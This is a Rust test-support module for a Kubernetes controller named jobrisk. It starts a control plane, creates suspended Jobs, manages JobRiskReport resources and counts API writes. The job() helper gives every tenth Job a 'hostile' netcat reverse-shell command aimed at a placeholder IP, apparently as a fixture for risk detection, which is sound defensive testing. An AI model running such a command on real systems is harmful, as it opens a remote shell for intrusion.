//! A control plane with the shipped manifests, and what bare clients do there.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use futures::{StreamExt as _, TryStreamExt as _, stream};
use jobrisk::api::report::JobRiskReport;
use k8s_openapi::api::batch::v1::Job;
use kube::api::{DeleteParams, ListParams, Patch, PatchParams, PostParams, ValidationDirective};
use kube::config::{KubeConfigOptions, Kubeconfig};
use kube::core::Request;
use kube::{Api, Client, Config, Resource as _};
use serde_json::{Value, json};
use tokio::runtime::Runtime;

use crate::support::{ControlPlane, NAMESPACE, apply_manifests, eventually, sum};

/// As many as the controller has under way.
pub(crate) const AT_ONE_TIME: usize = 16;

const LIMIT: Duration = Duration::from_secs(120);

pub(crate) struct Cluster {
    plane: ControlPlane,
    runtime: Runtime,
    admin: Client,
    kubeconfig: PathBuf,
}

impl Cluster {
    pub(crate) fn start() -> Self {
        let plane = ControlPlane::start();
        apply_manifests(&plane);
        let kubeconfig = plane.service_account_kubeconfig(NAMESPACE, "jobrisk");
        let runtime = runtime();
        let admin = runtime.block_on(client(plane.admin_kubeconfig()));
        Self { plane, runtime, admin, kubeconfig }
    }

    /// The rights of the controller. Bare clients have no others: the API server treats an administrator's
    /// requests better.
    pub(crate) fn kubeconfig(&self) -> &Path {
        &self.kubeconfig
    }

    pub(crate) fn admin(&self) -> Client {
        self.admin.clone()
    }

    pub(crate) fn block_on<T>(&self, work: impl Future<Output = T>) -> T {
        self.runtime.block_on(work)
    }

    pub(crate) fn create_namespace(&self, name: &str) {
        self.plane.kubectl_ok(&["create", "namespace", name]);
    }

    /// Creates the Jobs of these numbers and waits until their own controller has nothing to do with them.
    pub(crate) fn create_jobs(&self, namespace: &str, numbers: std::ops::Range<usize>) {
        let all = numbers.end;
        let api: Api<Job> = Api::namespaced(self.admin(), namespace);
        let create = stream::iter(numbers)
            .map(|number| {
                let (api, job) = (&api, job(&format!("w-{number}"), number % 10 == 9));
                async move { api.create(&PostParams::default(), &job).await }
            })
            .buffer_unordered(AT_ONE_TIME)
            .try_for_each(|_| async { Ok(()) });
        self.block_on(create).unwrap();
        let settled = |job: &Job| job.status.as_ref().is_some_and(|status| status.conditions.is_some());
        let done = eventually(LIMIT, || {
            let jobs = self.block_on(api.list(&ListParams::default())).unwrap();
            (jobs.items.iter().filter(|job| settled(job)).count() == all).then_some(())
        });
        done.expect("the job controller does not come to an end");
    }

    pub(crate) fn delete_reports(&self, namespace: &str) {
        let api: Api<JobRiskReport> = Api::namespaced(self.admin(), namespace);
        self.block_on(api.delete_collection(&DeleteParams::default(), &ListParams::default())).unwrap();
        let gone = eventually(LIMIT, || {
            let left = self.block_on(api.list_metadata(&ListParams::default().limit(1))).unwrap();
            left.items.is_empty().then_some(())
        });
        gone.expect("the reports stay");
        settle();
    }

    /// How many reports and Events were written so far, by anyone.
    pub(crate) fn writes(&self) -> f64 {
        const WHAT: [[&str; 2]; 2] = [
            [r#"group="jobrisk.io""#, r#"resource="jobriskreports""#],
            [r#"group="events.k8s.io""#, r#"resource="events""#],
        ];
        const VERBS: [&str; 6] = ["APPLY", "PATCH", "POST", "PUT", "DELETE", "DELETECOLLECTION"];
        sum(&self.plane.metrics(), "apiserver_request_total", |labels| {
            WHAT.iter().any(|what| what.iter().all(|label| labels.contains(label)))
                && VERBS.iter().any(|verb| labels.contains(&format!(r#"verb="{verb}""#)))
        })
    }
}

/// One thread, as the controller has.
pub(crate) fn runtime() -> Runtime {
    tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap()
}

pub(crate) async fn client(kubeconfig: &Path) -> Client {
    let kubeconfig = Kubeconfig::read_from(kubeconfig).unwrap();
    let config = Config::from_custom_kubeconfig(kubeconfig, &KubeConfigOptions::default()).await.unwrap();
    Client::try_from(config).unwrap()
}

/// A Job that stays as it is, since it is suspended.
pub(crate) fn job(name: &str, hostile: bool) -> Job {
    let (image, script) = if hostile {
        ("alpine:latest", "nc 192.0.2.10 4444 -e /bin/sh")
    } else {
        ("ubuntu:24.04", "set -eu; ./configure && make -j2 && make check")
    };
    let job = json!({
        "metadata": { "name": name },
        "spec": { "suspend": true, "backoffLimit": 0, "template": { "spec": {
            "restartPolicy": "Never",
            "containers": [{
                "name": "build",
                "image": image,
                "command": ["/bin/sh", "-c", script],
                "volumeMounts": [{ "name": "source", "mountPath": "/src" }],
            }],
            "volumes": [{ "name": "source", "emptyDir": {} }],
        } } },
    });
    serde_json::from_value(job).unwrap()
}

/// What has to be applied to make a report like `report`, under another name.
pub(crate) fn like(report: &JobRiskReport, name: &str) -> Value {
    let metadata = &report.metadata;
    json!({
        "apiVersion": "jobrisk.io/v1alpha1",
        "kind": "JobRiskReport",
        "metadata": {
            "name": name,
            "namespace": metadata.namespace,
            "labels": metadata.labels,
            "annotations": metadata.annotations,
            "ownerReferences": metadata.owner_references,
        },
        "spec": report.spec,
        "status": report.status,
    })
}

/// The bare write: the answer is not even decoded.
pub(crate) async fn apply(client: &Client, report: &Value) {
    let metadata = &report["metadata"];
    let text = |field: &str| metadata[field].as_str().unwrap();
    let params = PatchParams {
        field_validation: Some(ValidationDirective::Strict),
        ..PatchParams::apply("bare").force()
    };
    let url = JobRiskReport::url_path(&(), Some(text("namespace")));
    let request = Request::new(url).patch(text("name"), &params, &Patch::Apply(report)).unwrap();
    client.request_text(request).await.unwrap();
}

/// Lets what is in flight and the garbage collector come to an end.
pub(crate) fn settle() {
    std::thread::sleep(Duration::from_millis(500));
}

/// How long it takes.
pub(crate) async fn timed(work: impl Future<Output = ()>) -> Duration {
    let start = Instant::now();
    work.await;
    start.elapsed()
}
